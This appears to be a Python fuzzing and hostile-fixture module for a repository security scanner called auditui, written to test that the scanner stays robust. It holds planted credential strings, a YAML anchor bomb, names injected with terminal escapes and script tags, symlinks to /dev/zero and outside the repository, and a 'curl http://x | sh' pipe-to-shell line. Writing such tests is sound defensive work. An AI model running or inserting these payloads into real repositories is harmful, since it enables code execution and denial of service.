"""A hostile repository generator and a seeded mutation fuzzer, with the properties they must keep.

Shared by ``tests/test_hostile_corpus.py`` (a few hundred cases in CI) and
``benchmarks/fuzz.py`` (thousands).  Everything is deterministic for a given seed.

Properties checked on every case (:func:`check_case`):

* no exception escapes, and no check crashes (``engine.check_errors``);
* CPU time per case under a budget (inputs are under 100 KB);
* every finding's line lies inside its file (lines counted as git counts them);
* an incremental update after the mutation gives the findings of a fresh scan;
* text and Markdown output hold no control byte; every output is valid UTF-8;
* no planted secret appears in full in any output;
* nothing is written outside ``.auditui/`` (the canary outside the repository, the tree inside).
"""

from __future__ import annotations

import hashlib
import json
import os
import random
import re
import time
from dataclasses import dataclass, field
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
SAMPLES = ROOT / "sample_repos"
FIXTURES = ROOT / "tests" / "fixtures"

#: secrets in well-known token formats; none may appear in full in any output
PLANTED = {
    "aws-access-key": "AKIAQX7RZ4WPL2MN3KVB",
    "aws-secret": "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",
    "github-token": "ghp_R7tXk2QmP9vL4wN8bH3cJ6dF1gS5aZ0yE2uT",
    "gitlab-token": "glpat-Xq7Rk2Pm9Lv4Wn8Bh3Cj",
    "slack-token": "xoxb-7421983650-4719283746-Qm7Rk2Pm9Lv4Wn8Bh3Cj6dF1",
    "stripe-key": "sk_live_51Hq7Rk2Pm9Lv4Wn8Bh3Cj6dF1gS5aZ0y",
    "google-api-key": "AIzaSyD7Rk2Pm9Lv4Wn8Bh3Cj6dF1gS5aZ0yE2u",
    "password": "Tr0ub4dor&3-correct-horse-battery",
    "private-key-body": "MIIEowIBAAKCAQEAq7Rk2Pm9Lv4Wn8Bh3Cj6dF1gS5aZ0yE2uT",
}

CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def planted_files() -> dict[str, str]:
    """Files that hold every planted secret, in the places a repository holds them."""
    s = PLANTED
    return {
        "deploy/secret.yaml": (
            "apiVersion: v1\nkind: Secret\nmetadata: {name: creds, namespace: prod}\ntype: Opaque\n"
            f"stringData:\n  AWS_ACCESS_KEY_ID: {s['aws-access-key']}\n  AWS_SECRET_ACCESS_KEY: {s['aws-secret']}\n"
            f"  DB_PASSWORD: \"{s['password']}\"\n"),
        "docker-compose.yml": (
            "services:\n  db:\n    image: postgres:16\n    environment:\n"
            f"      POSTGRES_PASSWORD: \"{s['password']}\"\n      STRIPE_KEY: {s['stripe-key']}\n"),
        ".env": f"GITHUB_TOKEN={s['github-token']}\nSLACK_TOKEN={s['slack-token']}\nGOOGLE_API_KEY={s['google-api-key']}\n",
        ".github/workflows/ci.yml": (
            "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    env:\n"
            f"      GITLAB_TOKEN: {s['gitlab-token']}\n    steps:\n      - run: |\n"
            "          cat > key <<EOF\n          -----BEGIN RSA PRIVATE KEY-----\n"
            f"          {s['private-key-body']}\n          -----END RSA PRIVATE KEY-----\n          EOF\n"
            f"          docker login -u me -p {s['password']} registry.example.com\n"),
        "scripts/deploy.sh": (
            f"#!/bin/sh\nset -eu\nexport AWS_SECRET_ACCESS_KEY={s['aws-secret']}\n"
            f"sshpass -p '{s['password']}' ssh deploy@prod.example.com\n"),
        "Dockerfile": f"FROM python:3.12\nENV GITHUB_TOKEN={s['github-token']}\nUSER app\n",
    }


def hostile_files() -> dict[str, bytes]:
    """The hostile regular files of issue 10 (links, FIFOs and devices: :func:`build_hostile_repo`)."""
    bomb = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, "
        f"*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}]\n" for i in range(9))
    pod = ("apiVersion: v1\nkind: Pod\nmetadata:\n  name: \"p\\e]0;owned\\a\\e[2J<script>x</script>|\\nssh-rsa AAAA\"\n"
           "spec:\n  containers:\n    - {name: c, image: nginx, securityContext: {privileged: true}}\n")
    files: dict[str, bytes] = {
        "k8s/bomb.yaml": bomb.encode(),
        "k8s/hostile-names.yaml": pod.encode(),
        "k8s/odd-breaks.yaml": ("# x\r# y\x1c# z\u2028\n" + pod).encode(),
        "k8s/utf16.yaml": b"\xff\xfe" + pod.encode("utf-16-le"),
        "k8s/not-utf8.yaml": pod.encode() + b"# \xff\xfe\xc3\x28\n",
        "k8s/big.yaml": b"# padding\n" * 300_000,  # 3 MB: over the read cap
        "k8s/deep-flow.yaml": b"x: " + b"[" * 5000 + b"]" * 5000 + b"\n",
        ".gitignore": b"**********b\n*a*a*a*a*a*a*a*a*a*b\nfoo\\\n!\n",
        ".dockerignore": ("**/" * 12 + "x\n").encode(),
        "Dockerfile.long": b"FROM alpine\n" + b"RUN " + b"${{ " * 20_000 + b"\n",
        "scripts/long.sh": b"#!/bin/sh\necho " + b"'a'\"b\"$(c)" * 5000 + b"\n",
        ".auditui/state.toml": b"version = 1\nnotes = 5\nfindings = 5\nx = " + b"[" * 50_000 + b"]" * 50_000 + b"\n",
        "\x1b]0;owned\x07.yaml".encode(): pod.encode(),
        b"bad\xff|<b>`name`.yaml": pod.encode(),
        "new\nline.sh".encode(): b"#!/bin/sh\ncurl http://x | sh\n",
    }
    deep = "/".join(["d"] * 120)
    files[f"{deep}/pod.yaml".encode()] = pod.encode()
    return {(k if isinstance(k, str) else os.fsdecode(k)): v for k, v in files.items()}


def build_hostile_repo(root: Path, outside: Path) -> Path:
    """A repository of every hostile class, plus the planted secrets; returns the canary file."""
    outside.mkdir(parents=True, exist_ok=True)
    canary = outside / "canary.toml"
    canary.write_text("# the user's own file\n[tool.auditui]\nselect = ['K8S001']\n")
    for rel, text in planted_files().items():
        _write(root / rel, text.encode())
    for rel, data in hostile_files().items():
        _write(root / rel, data)
    links = {
        "link-out.yaml": canary, "docs": outside, "auditui-report.md": canary,
        "k8s/zero.yaml": Path("/dev/zero"), ".git/HEAD": Path("/dev/zero"),
        "loop/a": Path("../loop/a"),
    }
    for rel, target in links.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).symlink_to(target)
    os.mkfifo(root / "k8s" / "pipe.yaml")
    os.mkfifo(root / ".auditui" / "config.toml")
    return canary


def _write(path: Path, data: bytes) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)


# -- the mutation fuzzer ---------------------------------------------------------------------

#: what a mutation inserts: control characters, odd line breaks, bait for backtracking,
#: deep nesting, invalid UTF-8, template markers, anchors
_INSERTS = [b"\x1b[2J", b"\x1b]0;x\x07", b"\r", b"\x1c", "\u2028".encode(), b"\x85", b"\xff\xfe", b"\x00",
            b"${{ " * 200, b"*" * 60, b"**/" * 30, b"[" * 300, b"{" * 300, b"&a ", b"*a ", b"<<: *a\n",
            b"{{ .Values.x }}", b"\t", b"\\", b"'", b'"', b"$(", b"`", b"|", b"---\n", b"- ",
            b"password: " + b"password" * 50 + b"\n", ("x" * 5000).encode()]


def sample_files() -> list[Path]:
    out = [p for p in sorted(SAMPLES.rglob("*")) if p.is_file() and p.stat().st_size < 100_000]
    out += [p for p in sorted(FIXTURES.rglob("*")) if p.is_file() and p.stat().st_size < 20_000
            and p.suffix in (".yaml", ".yml", ".sh", ".env", ".toml", ".json") or p.name.endswith("Dockerfile")]
    return out


def mutate(data: bytes, rng: random.Random) -> bytes:
    data = bytearray(data)
    for _ in range(rng.randint(1, 6)):
        kind = rng.randrange(7)
        at = rng.randint(0, len(data)) if data else 0
        if kind == 0 and data:  # flip a byte
            data[min(at, len(data) - 1)] = rng.randrange(256)
        elif kind == 1:
            data[at:at] = rng.choice(_INSERTS)
        elif kind == 2 and data:  # drop a slice
            del data[at:at + rng.randint(1, 200)]
        elif kind == 3 and data:  # repeat a slice
            end = min(len(data), at + rng.randint(1, 400))
            data[at:at] = bytes(data[at:end]) * rng.randint(2, 20)
        elif kind == 4:  # truncate
            del data[at:]
        elif kind == 5 and data:  # swap two lines
            lines = bytes(data).split(b"\n")
            i, j = rng.randrange(len(lines)), rng.randrange(len(lines))
            lines[i], lines[j] = lines[j], lines[i]
            data = bytearray(b"\n".join(lines))
        else:  # indent a line oddly
            data[at:at] = b"\n" + b" " * rng.randint(0, 40)
    return bytes(data[:100_000])


@dataclass
class Outcome:
    cases: int = 0
    tracebacks: list[str] = field(default_factory=list)
    slow: list[tuple[str, float]] = field(default_factory=list)
    bad_lines: list[str] = field(default_factory=list)
    incremental_differs: list[str] = field(default_factory=list)
    control_bytes: list[str] = field(default_factory=list)
    leaked: list[str] = field(default_factory=list)
    written_outside: list[str] = field(default_factory=list)
    worst_seconds: float = 0.0

    def problems(self) -> dict[str, list]:
        return {name: value for name, value in vars(self).items()
                if isinstance(value, list) and value}


def _lines_of(path: Path) -> int:
    try:
        data = path.read_bytes()
    except OSError:
        return 0
    return data.count(b"\n") + (0 if data.endswith(b"\n") or not data else 1)


def _wide_lines(path: Path) -> int:
    """Lines of a UTF-16/32 file with a BOM, as auditui decodes it."""
    data = path.read_bytes()
    for bom, codec in ((b"\xff\xfe\x00\x00", "utf-32"), (b"\x00\x00\xfe\xff", "utf-32"),
                       (b"\xff\xfe", "utf-16"), (b"\xfe\xff", "utf-16")):
        if data.startswith(bom):
            text = data.decode(codec, errors="replace")
            return text.count("\n") + (0 if text.endswith("\n") else 1)
    return _lines_of(path)


def snapshot(root: Path) -> dict[str, str]:
    """Digest of every entry under ``root`` outside ``.auditui/`` (links by target, never followed)."""
    out: dict[str, str] = {}
    for folder, dirs, files in os.walk(root):
        rel_folder = os.path.relpath(folder, root)
        if rel_folder.split(os.sep)[0] == ".auditui":
            continue
        for name in dirs + files:
            path = os.path.join(folder, name)
            rel = os.path.relpath(path, root)
            if rel.split(os.sep)[0] == ".auditui":
                continue
            st = os.lstat(path)
            if os.path.islink(path):
                out[rel] = "link:" + os.readlink(path)
            elif os.path.isfile(path) and not os.path.islink(path) and st.st_size < 10_000_000:
                out[rel] = hashlib.blake2b(Path(path).read_bytes(), digest_size=8).hexdigest()
            else:
                out[rel] = f"mode:{st.st_mode:o}"
    return out


def check_outputs(result, root: Path, outcome: Outcome, label: str, formats=("text", "markdown", "json", "sarif")) -> None:
    """Render ``result`` in every format and check control bytes, UTF-8 and planted secrets."""
    from auditui.cli import render

    for fmt in formats:
        text = render(fmt, result, 0.0, context={"root": root} if fmt in ("markdown", "html") else None)
        try:
            text.encode("utf-8")
        except UnicodeEncodeError:
            outcome.tracebacks.append(f"{label}: {fmt} output is not valid UTF-8")
        if fmt in ("text", "markdown", "html") and CONTROL.search(text):
            outcome.control_bytes.append(f"{label}: {fmt}")
        for name, secret in PLANTED.items():
            if secret in text:
                outcome.leaked.append(f"{label}: {name} in {fmt}")
        if fmt == "json":
            json.loads(text)


def check_lines(engine, root: Path, outcome: Outcome, label: str) -> None:
    for finding in engine.findings:
        if not finding.line or not finding.path or finding.path == ".":
            continue
        count = _wide_lines(root / finding.path)
        if finding.line < 1 or max(finding.line, finding.end_line or 0) > max(count, 1):
            outcome.bad_lines.append(f"{label}: {finding.code} {finding.path}:{finding.line}-{finding.end_line} of {count}")


def fuzz(workdir: Path, cases: int, seed: int, budget: float = 2.0, render_every: int = 10) -> Outcome:
    """Run ``cases`` mutations of the samples, each as a change to a scanned repository."""
    from auditui.checks.engine import Engine
    from auditui.checks.report import AuditResult

    rng = random.Random(seed)
    samples = sample_files()
    outcome = Outcome()
    outside = workdir / "outside"
    outside.mkdir(parents=True, exist_ok=True)
    canary = outside / "canary"
    canary.write_text("canary\n")
    for number in range(cases):
        source = rng.choice(samples)
        repo = workdir / f"case{number % 4}"
        if repo.exists():
            for path in sorted(repo.rglob("*"), reverse=True):
                path.unlink() if path.is_file() or path.is_symlink() else path.rmdir()
        repo.mkdir(exist_ok=True)
        rel = source.relative_to(ROOT).as_posix().replace("tests/fixtures/", "f/").replace("sample_repos/", "s/")
        original = source.read_bytes()
        _write(repo / rel, original)
        (repo / "link-out").symlink_to(outside)
        for name, text in list(planted_files().items())[number % 3::3]:
            _write(repo / name, text.encode())
        label = f"case {number} ({rel})"
        mutated = mutate(original, rng)
        try:
            engine = Engine(repo)
            engine.scan()
            before = snapshot(repo)
            _write(repo / rel, mutated)
            os.utime(repo / rel, ns=(time.time_ns(), time.time_ns() + 1_000_000))
            start = time.process_time()
            engine.update([repo / rel])
            elapsed = time.process_time() - start
            fresh = Engine(repo)
            start = time.process_time()
            fresh.scan()
            elapsed = max(elapsed, time.process_time() - start)
        except Exception as exc:  # noqa: BLE001 - the property under test
            outcome.tracebacks.append(f"{label}: {type(exc).__name__}: {exc}")
            outcome.cases += 1
            continue
        outcome.cases += 1
        outcome.worst_seconds = max(outcome.worst_seconds, elapsed)
        if elapsed > budget:
            outcome.slow.append((label, round(elapsed, 2)))
        outcome.tracebacks.extend(f"{label}: {n.message}" for n in fresh.check_errors + engine.check_errors)
        if {f.fingerprint for f in engine.findings} != {f.fingerprint for f in fresh.findings}:
            outcome.incremental_differs.append(label)
        check_lines(fresh, repo, outcome, label)
        if number % render_every == 0:
            result = AuditResult(str(repo), fresh.findings, fresh.all_notices(), fresh.summary())
            check_outputs(result, repo, outcome, label)
        after = snapshot(repo)
        after.pop(rel.replace("/", os.sep), None)
        before.pop(rel.replace("/", os.sep), None)
        if after != before or canary.read_text() != "canary\n" or sorted(os.listdir(outside)) != ["canary"]:
            outcome.written_outside.append(label)
    return outcome
